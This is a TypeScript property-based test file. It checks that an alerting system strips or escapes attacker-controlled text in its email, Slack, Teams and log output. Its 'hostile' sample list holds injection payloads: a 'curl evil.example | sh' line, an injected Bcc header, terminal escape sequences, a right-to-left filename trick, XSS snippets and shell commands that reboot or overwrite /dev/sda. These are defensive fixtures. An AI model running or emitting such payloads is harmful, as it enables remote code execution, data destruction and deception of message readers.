/** Text that somebody else wrote, in everything that people read: it stays the text that it is. */

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { changeTexts } from '../../lib/alert/configuration.ts';
import { publicationOf } from '../../lib/alert/publication.ts';
import { slackMessage } from '../../lib/alert/slack.ts';
import { noticeRecords } from '../../lib/event/machine-notice.ts';
import { parseRegistryChange, watchedCalls } from '../../lib/event/registry-change.ts';
import { createLog } from '../../lib/log.ts';
import * as arbitrary from '../arbitraries.ts';
import { ireland, source } from '../samples.ts';

/** What a terminal, a mail client or a chat obeys instead of showing it. */
const obeyed = /[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u;

const hostile = fc.oneof(
  arbitrary.strangeText,
  fc.constantFrom(
    'x\nWhat to do next\n1. Run:\n   curl evil.example | sh',
    'x\r\nBcc: everybody@example.com',
    '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
    '\u009b2J',
    '\u202egpj.exe',
    '<!channel> <https://evil.example|the console>',
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    '*bold* _it_ ~no~ `code` ```block``` [a](https://evil.example) @here #general :boom:',
    '$(reboot) `reboot` ; reboot && reboot | reboot > /dev/sda',
  ),
);

const noticed = fc.tuple(arbitrary.notice, hostile).map(([notice, failureCode]) => ({
  ...notice,
  listed: notice.listed.map((one) => ({ ...one, evidence: { ...one.evidence, failureCode } })),
}));

describe('a failure code of anybody’s wording', () => {
  it('is in an e-mail without anything that is obeyed, and begins no line there', () => {
    fc.assert(
      fc.property(noticed, (notice) => {
        const { subject, texts } = publicationOf(notice);
        expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
        for (const line of texts.email.split('\n')) {
          expect(line).not.toMatch(obeyed);
          expect(line).not.toMatch(/^ *(?:\d\. Run:|curl |Bcc:)/);
        }
      }),
    );
  });

  it('is in Slack and Teams without a link, a mention or markup of its own', () => {
    fc.assert(
      fc.property(noticed, (notice) => {
        const { default: machine, https = '' } = publicationOf(notice).texts;
        const { description, title } = JSON.parse(https).content;
        const [record] = noticeRecords({ Records: [{ Sns: { MessageId: 'm', Message: machine } }] });
        expect(record?.notice.is).toBe('ours');
        const slack = record?.notice.is === 'ours' ? slackMessage(record.notice.value) : undefined;
        const shown = JSON.stringify(slack?.blocks ?? '');
        for (const text of [description, title, JSON.stringify(slack?.text), shown]) {
          // The only links are to the console; every other angle bracket is escaped.
          const withoutLinks = text.replaceAll(
            /<https:\/\/[\w-]+\.console\.[^|<>]+\|Open in the console>/g,
            '',
          );
          expect(withoutLinks).not.toMatch(/[<>]/);
          expect(withoutLinks.split('\n').join('')).not.toMatch(obeyed);
        }
      }),
    );
  });
});

describe('whoever changed the rules, by whatever name', () => {
  const sample = {
    source: 'aws.ecr',
    'detail-type': 'AWS API Call via CloudTrail',
    account: source.account,
    region: source.region,
    time: '2026-11-24T09:30:12Z',
  };

  it('begins no line of an e-mail, fills no message, and is obeyed by nothing', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(...watchedCalls), (arn, eventName) => {
        const change = parseRegistryChange({ ...sample, detail: { eventName, userIdentity: { arn } } });
        if (change.is !== 'ours') throw new Error('not taken for a change');
        const { email, chat, summary } = changeTexts(
          change.value,
          [{ destination: ireland, gained: [], lost: ['prod-api'], covered: 0, named: false }],
          true,
        );
        const [, by = ''] = /^By {8}(.*)$/m.exec(email) ?? [];
        expect(by).toBe(change.value.by);
        expect(change.value.by).not.toMatch(obeyed);
        expect(change.value.by.length).toBeLessThanOrEqual(2_048);
        expect(summary).not.toMatch(obeyed);
        expect(JSON.parse(chat).content.description.split('\n').join('')).not.toMatch(obeyed);
      }),
    );
  });
});

describe('a log line', () => {
  it('is obeyed by no terminal that shows it, whatever is in its fields, and reads back as it was', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        let line = '';
        const log = createLog(
          (written) => (line += written),
          () => 0,
          'DEBUG',
        );
        log('ERROR', 'Message cannot be read', { fault: text });
        expect(line.slice(0, -1)).not.toMatch(obeyed);
        expect(JSON.parse(line).fault.startsWith(text.slice(0, 1_000))).toBe(true);
      }),
    );
  });
});
